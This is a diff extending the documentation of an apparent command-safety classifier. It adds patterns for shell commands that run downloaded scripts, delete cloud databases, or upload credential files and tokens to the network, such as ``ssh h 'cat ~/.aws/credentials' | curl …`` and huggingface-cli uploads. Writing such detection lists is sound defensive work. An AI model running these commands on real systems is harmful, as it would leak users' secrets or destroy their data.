@@ -85,7 +85,8 @@ into its words; a script a process substitution prints, ``. <(echo '…')``; ``x
 a file the line wrote; a download held in a variable and echoed into a shell), into the
 command
 lines they run (``bash -c``, ``sh -lc``, ``eval``, ``ssh host '…'`` and ``ssh host cmd …``,
-a virtual machine's or another system's shell as ssh's (``colima ssh --``, ``limactl shell
+Slurm's ``srun``, the user's shell by its variable (``"${SHELL}" <(curl …)``), a virtual
+machine's or another system's shell as ssh's (``colima ssh --``, ``limactl shell
 NAME``, ``multipass exec NAME --``, ``wsl``, ``podman machine ssh``, ``minikube ssh``, ``lxc
 exec``, ``orb``, ``gcloud compute ssh --command``, ``kubectl debug node/N --`` with the
 node's files at ``/host``), here-documents fed to a shell (``cat <<EOF | sh`` too), ``echo …
@@ -205,9 +206,10 @@ runs a command in a container or a pod it names (``run_container`` with ``image`
   delete-db-instance``, ``aws dynamodb delete-table``, ``az sql db delete``, ``gcloud sql
   databases delete``, PowerShell's ``Remove-AzSqlDatabase``, ``Remove-RDSDBInstance``,
   ``Remove-DDBTable``, a cloud SDK's in a one-liner (boto3's ``delete_db_instance``,
-  ``delete_table``), SQL a cloud CLI runs (``aws rds-data execute-statement --sql``,
-  ``wrangler d1 execute --command``); an MCP tool that drops a database, table or
-  collection, deletes a database project, or flushes a store;
+  ``delete_table``), SQL a cloud CLI runs (``aws rds-data execute-statement --sql``, ``aws
+  athena start-query-execution --query-string``, ``wrangler d1 execute --command``); an
+  MCP tool that drops a database, table or collection, deletes a database project, or
+  flushes a store;
 - ``terraform_destroy``: ``terraform destroy``, ``apply -destroy`` (also given by the
   environment: ``TF_CLI_ARGS_apply=-destroy terraform apply``), applying a plan made with
   ``plan -destroy -out=F`` in the same line, ``tofu``,
@@ -291,7 +293,9 @@ runs a command in a container or a pod it names (``run_container`` with ``image`
   ``known_hosts`` and ``config``, ``.env`` but ``.env.example``, ``~/.aws``, ``~/.netrc``,
   ``~/.kube/config``, ``~/.git-credentials``, ``~/.npmrc``, ``~/.pypirc``,
   ``~/.config/gh/hosts.yml``, ``~/.docker/config.json``, ``~/.config/gcloud`` and what it
-  holds, private keys, …) or the environment (``env``, ``printenv``) sent to the network:
+  holds, data platforms' tokens (``~/.kaggle/kaggle.json``, Hugging Face's ``token``,
+  ``~/.databrickscfg``), private keys, …; also one read on another host, ``ssh h 'cat
+  ~/.aws/credentials' | curl …``) or the environment (``env``, ``printenv``) sent to the network:
   ``curl -d @…`` / ``-F f=@…`` / ``-T`` (alone or clustered: ``-sT F``, ``-sSLT F``), ``wget
   --post-file``, piped (alone or by a group: ``(cat ~/.netrc; sleep 1) | telnet h 23``) or
   redirected into ``nc``, ``ncat``, ``socat`` (or named in its ``FILE:`` address),
@@ -309,6 +313,7 @@ runs a command in a container or a pod it names (``run_container`` with ``image`
   out), or piped or redirected into one that uploads its standard input (``cat
   ~/.kube/config | gh gist create -``, ``gh gist create < F``, ``aws s3 cp - s3://b/k``,
   ``rclone rcat``), uploaded by a tool that names the files it sends (``gh release upload``,
+  ``huggingface-cli upload``, ``wandb artifact put``,
   ``gh pr create --body-file``, ``aws s3api put-object --body``, ``az storage blob upload
   -f``, ``azcopy``, ``mc cp``, ``b2``, ``croc``, ``wormhole``, ``ffsend``, ``unison``; not a
   download into the project, ``aws s3 cp s3://b/dev.env .env``), encrypted or encoded on the
